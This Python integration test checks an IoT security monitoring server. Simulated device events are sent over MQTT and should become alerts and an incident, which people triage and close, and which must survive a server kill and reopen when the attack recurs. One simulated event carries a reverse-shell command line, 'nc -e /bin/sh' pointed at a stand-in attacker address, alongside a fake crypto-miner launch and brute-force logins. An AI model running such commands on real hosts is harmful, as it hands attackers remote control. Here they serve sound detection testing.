"""An attack becomes alerts, an incident and rows of both tables; what people decide about them outlives kill -9."""

import datetime
import itertools
import json
import uuid

from mqtt_client import Device
from picket_server import wait_for

ATTACKER = "198.51.100.9"
CUSTOM = {
    "IoT_CA_ConnectionToIpNotAllowed", "IoT_CA_LocalUserNotAllowed", "IoT_CA_ProcessNotAllowed",
    "IoT_CA_ActiveConnectionsNotInAllowedRange", "IoT_CA_FailedLocalLoginsNotInAllowedRange",
}
packet_ids = itertools.count(1)


def now() -> str:
    return datetime.datetime.now(datetime.UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def event(name: str, **payload) -> dict:
    return {"Id": str(uuid.uuid4()), "TimestampLocal": now(), "TimestampUTC": now(), "Category": "Triggered", "Name": name,
            "EventType": "Security", "IsEmpty": False, "PayloadSchemaVersion": "1.0", "Payload": [payload]}


def failed_login() -> dict:
    return event("Login", ProcessId=900, Operation="LoginFailed", Executable="/usr/sbin/sshd", Result="Fail", UserName="operator",
                 RemoteAddress=ATTACKER, RemotePort="50022")


def shell(pid: int) -> dict:
    return event("ProcessCreate", Executable="/bin/nc", CommandLine=f"nc -e /bin/sh {ATTACKER} 4444", ProcessId=pid,
                 ParentProcessId=1, UserName="www")


def connection(address: str, port: int) -> dict:
    return event("ConnectionCreate", RemoteAddress=address, RemotePort=str(port), LocalAddress="192.0.2.2", LocalPort="40000",
                 Direction="Out", Protocol="tcp", Executable="/opt/pump", ProcessId=77)


def send(device: Device, *events: dict) -> None:
    body = {"AgentVersion": "1", "AgentId": "a", "MessageSchemaVersion": "3.0", "Events": list(events)}
    connected, code = device.open()
    assert code == 0
    connected.publish(device.topic, json.dumps(body).encode(), next(packet_ids))
    connected.close()


def set_custom_alerts(server) -> None:
    window = {"isEnabled": True, "minThreshold": 0, "maxThreshold": 3, "timeWindowSize": "PT5M"}
    server.call("PUT", "/security-groups/default", {"properties": {
        "timeWindowRules": [dict(window, ruleType=f"{kind}NotInAllowedRange")
                            for kind in ("ActiveConnections", "FailedLocalLogins")],
        "allowlistRules": [
            {"ruleType": "ConnectionToIpNotAllowed", "isEnabled": True, "allowlistValues": ["192.0.2.0/24"]},
            {"ruleType": "LocalUserNotAllowed", "isEnabled": True, "allowlistValues": ["operator"]},
            {"ruleType": "ProcessNotAllowed", "isEnabled": True, "allowlistValues": ["pump"]}]}})


def incident_of(server, device: str):
    page = server.get(f"/incidents?device={device}&kind=device")
    return page["items"][0] if page["items"] else None


def newest(server, table: str, key: str, of: str, what: str):
    return server.scalar(f"{table} | where {key} == '{of}' | summarize arg_max(TimeGenerated, *) by {key} | project {what}")


def test_an_attack_is_an_incident_that_people_close_and_that_opens_again(server):
    device = Device(server, server.add_device("press-1"))
    set_custom_alerts(server)
    server.call("PUT", "/suppressions/known-miner", {
        "reason": "a test of ours", "match": {"type": "IoT_CryptoMiner", "field": {"name": "CommandLine", "value": "*--drill*"}}})
    server.settled()
    wait_for(lambda: server.scalar("HubOperations | where Kind == 'suppression.set' | count") == 1, 60, "the rule is in force")

    send(device, *(failed_login() for _ in range(6)))
    send(device, shell(700), event("ProcessCreate", Executable="/tmp/xmrig", CommandLine="/tmp/xmrig --drill", ProcessId=800))
    send(device, *(connection("203.0.113.9", port) for port in range(8001, 8006)),
         event("Login", Operation="Login", Executable="/usr/sbin/sshd", Result="Success", UserName="mallory",
               RemoteAddress="192.0.2.9", ProcessId=901))
    incident = wait_for(lambda: incident_of(server, "press-1"), 60, "an incident")
    server.settled()
    wait_for(lambda: CUSTOM <= {alert["alertType"] for alert in server.alerts(device="press-1")}, 60, "the custom alerts")

    detail = server.get(f"/incidents/{incident['number']}")
    types = {alert["alertType"] for alert in detail["alerts"]}
    assert {"IoT_BruteForceFailed", "IoT_ReverseShell"} <= types
    assert f"address {ATTACKER}" in detail["reasons"]
    assert detail["severity"] == "High" and "CredentialAccess" in detail["tactics"]
    events = server.get(f"/incidents/{incident['number']}/events")
    assert not events["missing"] and {row["DeviceId"] for row in events["items"]} == {"press-1"}
    assert server.query(events["query"]), "the query finds them too"
    suppressed = server.alerts(type="IoT_CryptoMiner")
    assert [(one["status"], one["suppressedBy"]) for one in suppressed] == [("Dismissed", "known-miner")]
    assert server.get("/suppressions/known-miner")["hits"] == 1

    # People decide; the tables say so.
    closed = server.call("PATCH", f"/incidents/{incident['id']}", {
        "status": "Closed", "owner": "bob", "classification": "TruePositive", "alertStatus": "Resolved", "comment": "cut off"})
    assert closed["status"] == "Closed" and {alert["status"] for alert in closed["alerts"]} == {"Resolved"}
    shell_alert = next(alert for alert in closed["alerts"] if alert["alertType"] == "IoT_ReverseShell")

    def tables() -> tuple:
        return (newest(server, "SecurityIncident", "IncidentName", incident["id"], "Status"),
                newest(server, "SecurityIncident", "IncidentName", incident["id"], "tostring(Owner.assignedTo)"),
                newest(server, "SecurityIncident", "IncidentName", incident["id"], "FirstModifiedTime > CreatedTime"),
                newest(server, "SecurityAlert", "SystemAlertId", shell_alert["id"], "Status"))

    wait_for(lambda: tables() == ("Closed", "bob", True, "Resolved"), 60, "rows of what was decided")
    assert "bob" in server.cli("incident", "list").stdout
    alerts_before = sorted((alert["id"], alert["status"], alert["count"]) for alert in server.alerts())

    server.kill()
    server.start()
    server.settled()
    assert sorted((alert["id"], alert["status"], alert["count"]) for alert in server.alerts()) == alerts_before
    assert server.get(f"/incidents/{incident['id']}")["number"] == incident["number"]
    assert server.get("/incidents?merged=true")["total"] == server.scalar("SecurityIncident | distinct IncidentNumber | count")
    wait_for(lambda: tables() == ("Closed", "bob", True, "Resolved"), 60, "the same rows")

    # It goes on.
    send(device, shell(701))
    wait_for(lambda: server.get(f"/alerts/{shell_alert['id']}")["status"] == "New" or
             len(server.alerts(type="IoT_ReverseShell")) > 1, 60, "the alert is open again")
    wait_for(lambda: server.get(f"/incidents/{incident['id']}")["status"] == "Active", 60, "the incident is open again")
    kinds = {record["action"] for record in server.get("/audit?limit=500")["items"]}
    assert {"suppression.set", "incident.triage", "security_group.set"} <= kinds
